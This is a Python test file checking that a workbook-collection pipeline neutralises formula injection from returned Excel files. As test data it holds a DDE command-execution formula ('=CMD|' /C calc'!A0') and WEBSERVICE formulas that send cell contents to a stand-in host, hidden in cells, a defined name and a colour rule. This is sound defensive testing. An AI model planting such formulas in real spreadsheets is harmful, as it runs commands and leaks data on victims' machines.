"""Nothing a sender typed ever becomes a formula in a workbook `collect` writes.

Status texts that look like formulas ("=SUM(A1)", "+1+1", "@foo", "-2"), real
formulas typed into the status cells, into a locked cell and onto a sheet of
their own (a DDE call among them): every output workbook (master, overview,
validation list, committee reports, annotated copies) is opened as a zip and
every <f> element of every sheet is read. None may hold what came from a
return; the texts must still be there, as text, with a quote prefix so that
editing the cell in Excel does not turn them into formulas either. (The archive
keeps each return byte for byte as received and is not an output workbook.)
"""

from __future__ import annotations

import html
import re
import zipfile
from dataclasses import replace
from pathlib import Path

import openpyxl
import pytest
from openpyxl.formatting.rule import FormulaRule
from openpyxl.styles import PatternFill
from openpyxl.workbook.defined_name import DefinedName
from returns_kit import Kit, cell_of, edit
from synthetic import synthetic_answers

from workbook_tools.master import read_master
from workbook_tools.pipeline import collect_round

SHEET = "Opfølgning"
TYPED_AS_TEXT = {
    ("1.01", "status"): "=SUM(A1)",
    ("1.01", "economy_status"): '=HYPERLINK("http://example.invalid/a","klik")',
    ("1.02", "status"): "+1+1",
    ("1.02", "economy_status"): "@foo",
    ("1.03", "status"): "-2",
    ("1.03", "economy_status"): "=1+1",
}
REAL_FORMULAS = {
    "status": '=WEBSERVICE("http://example.invalid/?"&B5)',
    "economy_status": '=HYPERLINK("http://example.invalid/b","b")',
    "locked": "=SUM(A1:A9)+1",
    "own sheet": "=CMD|' /C calc'!A0",
}
# What would give a return's formula away inside an output's <f>; the template's own formulas hold none of it.
MARKERS = ("SUM(A1", "HYPERLINK", "1+1", "foo", "WEBSERVICE", "CMD", "example.invalid")
_F = re.compile(rb"<(?:\w+:)?f(?:\s[^>]*)?(?:/>|>(.*?)</(?:\w+:)?f>)", re.S)
# Formulas outside cells: conditional formats (<formula>), validations (<formula1>, <formula2>), defined names.
_RULE = re.compile(rb"<(?:\w+:)?(formula[12]?|definedName)(?:\s[^>]*)?>(.*?)</(?:\w+:)?\1>", re.S)


def formulas_in(path: Path) -> list[tuple[str, str]]:
    """(part, formula text) for every formula of the workbook: in cells, rules and defined names."""
    out = []
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                out += [(name, html.unescape((m.group(1) or b"").decode("utf-8"))) for m in _F.finditer(z.read(name))]
            if name == "xl/workbook.xml" or (name.startswith("xl/worksheets/") and name.endswith(".xml")):
                out += [(name, html.unescape(m.group(2).decode("utf-8"))) for m in _RULE.finditer(z.read(name))]
    return out


def from_a_return(formula: str) -> bool:
    return any(m in formula for m in MARKERS) or formula.strip() in ("-2", "2")


@pytest.fixture
def collected(tmp_path, agreement, master, texts):
    kit = Kit(tmp_path, agreement, texts)
    plan1, plan2 = kit.plan("Udvalg 01"), kit.plan("Udvalg 02")

    # Udvalg 01: texts that look like formulas, typed as text; one economy smiley left out (a warning).
    answers = synthetic_answers(agreement, "Udvalg 01", 1)
    typed = [replace(a, **{f: TYPED_AS_TEXT[(a.element, f)] for f in ("status", "economy_status")}) for a in answers]
    typed[2] = replace(typed[2], economy=None)
    kit.filled("udvalg-01.xlsx", "Udvalg 01", typed)

    # Udvalg 02: real formulas, in the answers, in a locked cell and on a sheet of their own.
    def formulas(wb):
        ws = wb[SHEET]
        ws.protection.sheet = False
        ws[cell_of(plan2, "2.01", "status", 1)] = REAL_FORMULAS["status"]
        ws[cell_of(plan2, "2.02", "economy_status", 1)] = REAL_FORMULAS["economy_status"]
        ws.cell(plan2.element_rows["2.03"] + 2, 8).value = REAL_FORMULAS["locked"]
        wb.create_sheet("Noter")["A1"] = REAL_FORMULAS["own sheet"]
        # ... and outside any cell: a defined name and a colour rule, which run when the file opens.
        wb.defined_names["Hent"] = DefinedName("Hent", attr_text='WEBSERVICE("http://example.invalid/navn")')
        ws.conditional_formatting.add(
            "H1:H2", FormulaRule(formula=['WEBSERVICE("http://example.invalid/farve")<>""'], fill=PatternFill(bgColor="FF0000"))
        )

    real = edit(kit.filled("udvalg-02.xlsx", "Udvalg 02"), formulas)
    held = [f for _p, f in formulas_in(real) if "WEBSERVICE" in f]
    assert len(held) == 3, f"the return really holds the formulas, in a cell, a name and a rule: {held}"

    # Udvalg 01 again, from someone else: a formula-looking text typed into a smiley cell.
    def smiley_text(wb):
        ws = wb[SHEET]
        ws[cell_of(plan1, "1.01", "progress", 1)] = "=SUM(A1)"
        ws[cell_of(plan1, "1.01", "progress", 1)].data_type = "s"

    edit(kit.filled("udvalg-01-anden.xlsx", "Udvalg 01", author="Anden"), smiley_text)

    out = tmp_path / "ud"
    run = collect_round(master, 1, [kit.returns], out, pdf=False, jobs=1)
    return run, out


def output_workbooks(out: Path) -> list[Path]:
    return sorted(p for p in out.rglob("*.xlsx") if "archive" not in p.relative_to(out).parts)


def test_no_output_workbook_has_a_formula_that_came_from_a_return(collected):
    run, out = collected
    books = output_workbooks(out)
    kinds = {p.relative_to(out).parts[0] if len(p.relative_to(out).parts) > 1 else p.name for p in books}
    assert kinds == {"master.xlsx", "overview.xlsx", "validation.xlsx", "reports", "feedback"}
    assert len([p for p in books if p.parent.name == "feedback"]) == 3, "every return has an annotated copy here"
    for path in books:
        found = [(part, f) for part, f in formulas_in(path) if from_a_return(f)]
        assert found == [], f"{path.relative_to(out)} runs what a sender typed: {found}"
    codes = {p.code for p in run.problems}
    assert {"formula-in-input", "locked-cell-changed", "invalid-smiley", "sheet-added-or-removed", "formulas-outside-cells"} <= codes
    [outside] = [p for p in run.problems if p.code == "formulas-outside-cells"]
    assert "navnet 'Hent'" in outside.message and "betinget formatering" in outside.message


def test_what_was_typed_is_still_there_as_text_with_a_quote_prefix(collected):
    """The texts are kept (the test above could not pass by dropping them), and an edit in Excel keeps them text."""
    _run, out = collected
    master = read_master(out / "master.xlsx")
    for (element, field), text in TYPED_AS_TEXT.items():
        assert getattr(master.result(element, 1), field) == text
    shown: dict[str, set[str]] = {}
    for path in output_workbooks(out):
        wb = openpyxl.load_workbook(path)
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    if isinstance(cell.value, str) and cell.value in {*TYPED_AS_TEXT.values(), *REAL_FORMULAS.values()}:
                        assert cell.data_type == "s" and cell.quotePrefix, f"{path.relative_to(out)} {ws.title}!{cell.coordinate}"
                        shown.setdefault(cell.value, set()).add(path.relative_to(out).parts[0])
    for text in TYPED_AS_TEXT.values():
        assert {"master.xlsx", "overview.xlsx", "reports", "feedback"} <= shown[text], (text, shown[text])
    assert "feedback" in shown[REAL_FORMULAS["status"]], "a sender's formula is shown in their copy as text"
    assert "feedback" in shown[REAL_FORMULAS["own sheet"]]
    assert "validation.xlsx" in shown["=SUM(A1)"], "the validation list names what the smiley cell held"
